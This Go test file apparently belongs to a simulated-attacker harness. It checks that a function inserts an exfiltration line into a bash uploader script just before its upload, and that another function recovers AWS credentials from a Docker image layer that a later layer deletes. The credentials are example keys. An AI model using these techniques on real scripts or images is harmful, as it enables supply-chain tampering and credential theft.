package actors

import (
	"archive/tar"
	"bytes"
	"strings"
	"testing"
)

// The line goes in just before the upload, once, and the rest of the
// script is kept as it was.
func TestPoisonedAddsOneLineBeforeTheUpload(t *testing.T) {
	script := "#!/usr/bin/env bash\nsay hello\nres=$(curl -sX POST \"$url/upload/v2?token=$token\" || true)\nsay done\n"
	got := string(Poisoned([]byte(script)))
	want := "#!/usr/bin/env bash\nsay hello\n" + ExfilLine + "\nres=$(curl -sX POST \"$url/upload/v2?token=$token\" || true)\nsay done\n"
	if got != want {
		t.Fatalf("poisoned:\n%s\nwant:\n%s", got, want)
	}
	if strings.Count(got, ExfilLine) != 1 {
		t.Error("the line is added more than once")
	}
}

// The key is found in the layer that added it even though a later layer
// deletes it, as tar and dive find it.
func TestKeyInLayersReadsEveryLayer(t *testing.T) {
	layer := func(files map[string]string) []byte {
		var b bytes.Buffer
		tw := tar.NewWriter(&b)
		for name, body := range files {
			_ = tw.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(body)), Typeflag: tar.TypeReg})
			_, _ = tw.Write([]byte(body))
		}
		_ = tw.Close()
		return b.Bytes()
	}
	var archive bytes.Buffer
	tw := tar.NewWriter(&archive)
	for name, body := range map[string][]byte{
		"manifest.json":       []byte(`[{"Layers": ["l1/layer.tar", "l2/layer.tar", "l3/layer.tar"]}]`),
		"l1/layer.tar":        layer(map[string]string{"usr/local/bin/coverlytics": "#!/bin/bash\n"}),
		"l2/layer.tar":        layer(map[string]string{"root/.aws/credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"}),
		"l3/layer.tar":        layer(map[string]string{"root/.aws/.wh.credentials": ""}),
		"repositories":        []byte(`{}`),
		"config-sha256.json":  []byte(`{}`),
		"l1/VERSION":          []byte("1.0"),
		"l1/json":             []byte(`{}`),
		"unrelated/notes.txt": []byte("AKIA in prose is not a key"),
	} {
		_ = tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		_, _ = tw.Write(body)
	}
	_ = tw.Close()
	creds, err := keyInLayers(archive.Bytes())
	if err != nil || creds.AccessKeyID != "AKIAIOSFODNN7EXAMPLE" {
		t.Fatalf("creds %+v, %v", creds, err)
	}
	if _, err := keyInLayers(layer(map[string]string{"etc/hosts": "127.0.0.1 localhost\n"})); err == nil {
		t.Error("an archive without a key gave one")
	}
}
